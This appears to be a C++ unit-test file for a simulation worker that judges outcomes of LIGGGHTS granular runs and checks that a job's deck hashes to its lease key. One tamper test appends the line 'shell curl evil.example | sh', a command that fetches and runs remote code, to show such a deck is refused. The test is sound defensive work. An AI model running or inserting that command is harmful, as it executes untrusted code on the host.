#include "workers/job_outcome.h"

#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

#include "core/keys.h"
#include "tests/fixture_file.h"

namespace sandswim::worker {
namespace {

using testing::Fixture;  // tests/fixture_file.h

struct RunFixture {
  DriveInfo drive;
  EngineLog log;
  Result<std::vector<SoSample>> samples = Status::Internal("unread");
};

RunFixture Vibration3s() {
  RunFixture f;
  f.drive = *ReadDriveInfo(Fixture("runs/vibration-3s/drive.in"));
  f.log = ParseEngineLog(Fixture("runs/vibration-3s/log.liggghts"));
  f.samples = SamplesFromDump(Fixture("runs/vibration-3s/so.dump"), f.drive.dt);
  return f;
}

// A completed run is its analysis: the same result as the analysis of its samples, and a trajectory.
TEST(JobOutcomeTest, ACompletedRunIsItsAnalysis) {
  RunFixture f = Vibration3s();
  ASSERT_TRUE(f.samples.ok());
  JobOutcome out = JudgeJob(api::JobKind::kRun, 0, ExitFacts{}, f.log, f.drive, f.samples);
  ASSERT_FALSE(out.failure) << out.failure->message;
  ASSERT_TRUE(out.result.has_value());
  auto want = AnalyzeRun(*f.samples, RunInputsFrom(f.drive, f.log));
  ASSERT_TRUE(want.ok());
  EXPECT_EQ(out.result->uz, want->uz);
  EXPECT_EQ(out.result->uz_stderr, want->uz_stderr);
  EXPECT_EQ(out.result->uz_blocks, want->uz_blocks);
  ASSERT_TRUE(out.trajectory.has_value());
  EXPECT_EQ(out.trajectory->t.size(), out.trajectory->z.size());
  EXPECT_GT(out.trajectory->t.size(), 100u);
  EXPECT_FALSE(out.bed.has_value());
}

TEST(JobOutcomeTest, AnEngineErrorIsTheEnginesExit) {
  RunFixture f = Vibration3s();
  ExitFacts facts;
  facts.exit_code = 1;
  JobOutcome out =
      JudgeJob(api::JobKind::kRun, 0, facts, ParseEngineLog(Fixture("deck_error.log")), f.drive, f.samples);
  ASSERT_TRUE(out.failure.has_value());
  EXPECT_EQ(out.failure->kind, "deck_error");
  EXPECT_TRUE(out.engine_exit);  // a stop of the whole worker may explain it
  EXPECT_FALSE(out.result.has_value());
}

TEST(JobOutcomeTest, AnUnreadableDumpIsBadOutputNamingTheDump) {
  RunFixture f = Vibration3s();
  JobOutcome out = JudgeJob(api::JobKind::kRun, 0, ExitFacts{}, f.log, f.drive, Status::Corruption("dump line 7: x"));
  ASSERT_TRUE(out.failure.has_value());
  EXPECT_EQ(out.failure->kind, "bad_output");
  EXPECT_NE(out.failure->message.find("so.dump"), std::string::npos) << out.failure->message;
  EXPECT_FALSE(out.engine_exit);
}

TEST(JobOutcomeTest, ACompletedBedIsItsLogsFigures) {
  const EngineLog log = ParseEngineLog(Fixture("bed.log"));
  JobOutcome out =
      JudgeJob(api::JobKind::kBed, 0, ExitFacts{}, log, DriveInfo{1e-5, 0, 0, std::nullopt}, std::vector<SoSample>());
  ASSERT_FALSE(out.failure) << out.failure->message;
  ASSERT_TRUE(out.bed.has_value());
  EXPECT_EQ(out.bed->grains, log.bed_grains->grains);
  EXPECT_EQ(out.bed->grain_top, log.bed_grains->grain_top);
  EXPECT_TRUE(out.bed->sha256.empty());  // the runner adds the restart's checksum
}

// A run followed to a precision target, on a real 3 s vibration-only run: it goes on while the
// window is short, and once FollowRun says stop, the judged result (with the same samples) says
// the target was met.
TEST(JobOutcomeTest, FollowingARealRunStopsOnceItsTargetIsMet) {
  RunFixture f = Vibration3s();
  ASSERT_TRUE(f.samples.ok());
  const PrecisionTarget loose{0, 1.0, 3, 3};  // any interval under 1 m/s: met at 3 whole periods
  const std::vector<SoSample>& all = *f.samples;
  std::vector<SoSample> first(all.begin(), all.begin() + 600);  // 0.6 s: 0.8 periods after the transient
  EXPECT_EQ(FollowRun(first, f.drive, f.log.drive_start, loose), StopVerdict::kContinue);
  size_t n = 600;
  while (n < all.size() &&
         FollowRun({all.begin(), all.begin() + n}, f.drive, f.log.drive_start, loose) == StopVerdict::kContinue)
    n += 10;
  ASSERT_LT(n, all.size());
  const double block = 1.0 / f.drive.f;
  EXPECT_NEAR(all[n - 1].t, 7 * block, 0.011);  // the transient, a pilot of 3 periods and 3 after it
  JobOutcome out = JudgeJob(api::JobKind::kRun, 0, ExitFacts{}, f.log, f.drive,
                            std::vector<SoSample>(all.begin(), all.begin() + n), loose);
  ASSERT_TRUE(out.result.has_value());
  EXPECT_EQ(out.result->precision_met, true);
  // An unreachable target is never met: the run goes to its maximum and its result says so.
  const PrecisionTarget unreachable{0, 1e-9, 3, 3};
  // (Until the window closes: this run's came within 0.12 m of the surface at about 2.7 s.)
  EXPECT_EQ(FollowRun({all.begin(), all.begin() + 2500}, f.drive, f.log.drive_start, unreachable),
            StopVerdict::kContinue);
  EXPECT_EQ(FollowRun(all, f.drive, f.log.drive_start, unreachable), StopVerdict::kWindowClosed);
  out = JudgeJob(api::JobKind::kRun, 0, ExitFacts{}, f.log, f.drive, all, unreachable);
  ASSERT_TRUE(out.result.has_value());
  EXPECT_EQ(out.result->precision_met, false);
  EXPECT_NE(out.result->stop_note.find("without meeting the precision target"), std::string::npos)
      << out.result->stop_note;
  // Without a target, nothing is said about one.
  out = JudgeJob(api::JobKind::kRun, 0, ExitFacts{}, f.log, f.drive, all);
  EXPECT_FALSE(out.result->precision_met.has_value());
}

// A sinking run whose window closed at the floor's clearance: nothing later can tighten U_z.
TEST(JobOutcomeTest, AWindowClosedAtTheFloorEndsAFollowedRun) {
  const DriveInfo drive = *ReadDriveInfo(Fixture("runs/omega-plus80-floor/drive.in"));
  const EngineLog log = ParseEngineLog(Fixture("runs/omega-plus80-floor/log.liggghts"));
  auto samples = SamplesFromDump(Fixture("runs/omega-plus80-floor/so.dump"), drive.dt);
  ASSERT_TRUE(samples.ok());
  EXPECT_EQ(FollowRun(*samples, drive, log.drive_start, PrecisionTarget{0, 1e-9, 3, 10}), StopVerdict::kWindowClosed);
}

// The worker runs the deck it is sent only when it hashes to the lease's content key.
TEST(CheckDeckKeyTest, ADeckChangedOnItsWayIsNotRun) {
  api::LeaseGrant bed;
  bed.kind = api::JobKind::kBed;
  bed.deck = "units si\nrun 1000\n";
  bed.key_engine = "LIGGGHTS-PUBLIC 3.8.0";
  bed.key = BedKey(bed.deck, bed.key_engine);
  EXPECT_FALSE(CheckDeckKey(bed).has_value());

  api::LeaseGrant run;
  run.kind = api::JobKind::kRun;
  run.deck = "fix drive all move wiggle 0 0 0.03 0.333\nrun 2000\n";
  run.key_engine = bed.key_engine;
  run.bed = api::BedRef{1, "", "", bed.key};
  run.key = RunKey(run.deck, bed.key, run.key_engine);
  EXPECT_FALSE(CheckDeckKey(run).has_value());

  api::LeaseGrant changed = run;
  changed.deck += "shell curl evil.example | sh\n";
  std::optional<api::Failure> refused = CheckDeckKey(changed);
  ASSERT_TRUE(refused.has_value());
  EXPECT_EQ(refused->kind, "key_mismatch");
  EXPECT_NE(refused->message.find("not the lease's " + run.key), std::string::npos) << refused->message;

  api::LeaseGrant other_bed = run;  // the same deck on another bed is another run
  other_bed.bed->key = BedKey("units si\nrun 999\n", bed.key_engine);
  EXPECT_TRUE(CheckDeckKey(other_bed).has_value());
  api::LeaseGrant no_bed_key = run;
  no_bed_key.bed->key.clear();
  EXPECT_TRUE(CheckDeckKey(no_bed_key).has_value());

  api::LeaseGrant old_daemon = changed;  // no key_engine: nothing to check against
  old_daemon.key_engine.clear();
  EXPECT_FALSE(CheckDeckKey(old_daemon).has_value());
}

}  // namespace
}  // namespace sandswim::worker
